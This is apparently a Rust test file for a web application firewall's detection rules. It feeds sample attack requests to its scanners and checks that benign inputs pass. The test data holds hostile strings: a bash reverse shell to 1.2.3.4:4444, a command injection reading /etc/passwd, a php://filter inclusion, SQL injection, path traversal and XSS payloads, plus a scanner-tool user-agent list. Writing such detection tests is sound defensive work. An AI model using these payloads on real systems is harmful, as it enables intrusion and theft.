//! The detection rules on requests that hold an attack, and on some that do not.

use waf_core::net::IpAddr;
use waf_core::request::{RequestCtx, TextMap};
use waf_core::rules::ua::UaScanner;
use waf_core::rules::{cmdi, compile_set, excerpt, lfi, named_outcome, sqli, traversal, xss, Hit, Surface};

fn request(method: &str, uri: &str, path: &str, query: &str, body: &str) -> RequestCtx {
    RequestCtx {
        request_id: "t".into(),
        client_ip: IpAddr::v4(1, 2, 3, 4),
        method: method.into(),
        uri: uri.into(),
        path: path.into(),
        query: query.into(),
        host: "h".into(),
        user_agent: "".into(),
        http_version: "HTTP/1.1".into(),
        headers: TextMap::new(),
        header_order: vec![],
        cookie_order: vec![],
        cookies: TextMap::new(),
        body_preview: body.as_bytes().to_vec(),
        content_length: None,
        country: None,
        ja4h: String::new(),
        ja3: String::new(),
        ja4: String::new(),
    }
}

fn with_query(query: &str) -> Surface {
    Surface::from(&request("GET", &format!("/x?{query}"), "/x", query, ""))
}

fn with_path(path: &str) -> Surface {
    Surface::from(&request("GET", path, path, "", ""))
}

fn with_body(body: &str) -> Surface {
    Surface::from(&request("POST", "/x", "/x", "", body))
}

fn scan_sqli(s: &Surface) -> Option<Hit> {
    sqli::scan(&sqli::pattern_set().unwrap(), s)
}

fn scan_cmdi(s: &Surface) -> Option<Hit> {
    cmdi::scan(&cmdi::pattern_set().unwrap(), s)
}

fn scan_lfi(s: &Surface) -> Option<Hit> {
    lfi::scan(&lfi::pattern_set().unwrap(), s)
}

fn scan_traversal(s: &Surface) -> Option<Hit> {
    traversal::scan(&traversal::pattern_set().unwrap(), s)
}

fn scan_xss(s: &Surface) -> Option<Hit> {
    xss::scan(&xss::pattern_set().unwrap(), s)
}

#[test]
fn pipe_into_cat() {
    assert!(scan_cmdi(&with_query("file=foo;cat /etc/passwd")).is_some());
}

#[test]
fn bash_reverse_shell() {
    assert!(scan_cmdi(&with_query("c=bash -i >& /dev/tcp/1.2.3.4/4444 0>&1")).is_some());
}

#[test]
fn cmdi_benign_passes() {
    assert!(scan_cmdi(&with_query("q=we|love|cats")).is_none());
}

#[test]
fn etc_passwd() {
    assert!(scan_lfi(&with_query("page=/etc/passwd")).is_some());
}

#[test]
fn php_wrapper() {
    assert!(scan_lfi(&with_query("file=php://filter/convert.base64-encode/resource=index.php")).is_some());
}

#[test]
fn classic_or_1_eq_1() {
    assert!(scan_sqli(&with_query("id=1' or 1=1--")).is_some());
}

#[test]
fn union_select() {
    assert!(scan_sqli(&with_query("id=1 UNION SELECT 1,2,3")).is_some());
}

#[test]
fn sqli_benign_passes() {
    assert!(scan_sqli(&with_query("q=hello world")).is_none());
    assert!(scan_sqli(&with_query("q=select+a+book")).is_none());
}

#[test]
fn classic_traversal() {
    assert!(scan_traversal(&with_path("/a/../etc/passwd")).is_some());
}

#[test]
fn encoded_traversal() {
    assert!(scan_traversal(&with_path("/a/%2e%2e/passwd")).is_some());
}

#[test]
fn benign_path() {
    assert!(scan_traversal(&with_path("/files/report.pdf")).is_none());
}

#[test]
fn matches_substring() {
    let s = UaScanner::new(&vec!["sqlmap".to_string(), "nikto".to_string()]).unwrap();
    assert!(s.is_suspicious("Mozilla/5.0 sqlmap/1.6"));
    assert!(s.is_suspicious("Nikto/2.1.6"));
    assert!(!s.is_suspicious("Mozilla/5.0 (Macintosh; Intel Mac OS X) Safari/605"));
}

#[test]
fn detects_script_tag() {
    assert!(scan_xss(&with_body("comment=<script>alert(1)</script>")).is_some());
}

#[test]
fn detects_event_handler() {
    assert!(scan_xss(&with_body("<img src=x onerror=alert(1)>")).is_some());
}

#[test]
fn benign_html_passes() {
    assert!(scan_xss(&with_body("Bold text using <b>tag</b> is fine.")).is_none());
}

#[test]
fn a_hit_names_its_rule_and_field() {
    let h = scan_sqli(&with_query("id=1%27%20or%201=1--")).unwrap();
    assert_eq!(h.rule_id, "SQLI-01");
    assert_eq!(h.category, "sqli");
    assert_eq!(h.matched_field, "query");
    assert_eq!(h.matched_excerpt, "id=1' or 1=1--");
    let h = scan_xss(&with_body("<script>")).unwrap();
    assert_eq!(h.rule_id, "XSS-01");
    assert_eq!(h.matched_field, "body");
}

#[test]
fn an_empty_word_list_suspects_nobody() {
    let built = aho_corasick::AhoCorasickBuilder::new().ascii_case_insensitive(true).build(["bot"]);
    let s = UaScanner::of_outcome(built).unwrap();
    assert!(s.is_suspicious("a BOT") && s.is_suspicious("bot") && !s.is_suspicious("b ot"));
    let s = UaScanner::new(&vec![]).unwrap();
    assert!(!s.is_suspicious("sqlmap"));
    assert!(!s.is_suspicious(""));
}

#[test]
fn the_surface_is_decoded_once() {
    let s = Surface::from(&request("GET", "/a%2fb?q=%41", "/a%2fb", "q=%41%2541", "caf\u{e9}"));
    assert_eq!(s.path_decoded, "/a/b");
    assert_eq!(s.query_decoded, "q=A%41");
    assert_eq!(s.uri, "/a%2fb?q=%41");
    assert_eq!(s.body_preview, "caf\u{e9}");
    let mut raw = request("GET", "/", "/", "", "");
    raw.body_preview = vec![b'a', 0xff, b'b'];
    assert_eq!(Surface::from(&raw).body_preview, "a\u{fffd}b");
}

#[test]
fn excerpts_are_flat_and_short() {
    assert_eq!(excerpt("a\nb"), "a b");
    let long = "x".repeat(500);
    assert_eq!(excerpt(&long).chars().count(), 96);
}

#[test]
fn a_set_that_does_not_compile_is_named() {
    assert_eq!(compile_set("broken", &["a", "("]).unwrap_err().set, "broken");
    assert!(compile_set("whole", &["a", "b+"]).unwrap().is_match("xbbx"));
    assert_eq!(named_outcome("broken", regex::RegexSet::new(["("])).unwrap_err().set, "broken");
    let set = named_outcome("whole", regex::RegexSet::new(["b+"])).unwrap();
    assert!(set.is_match("abb") && !set.is_match("a"));
}
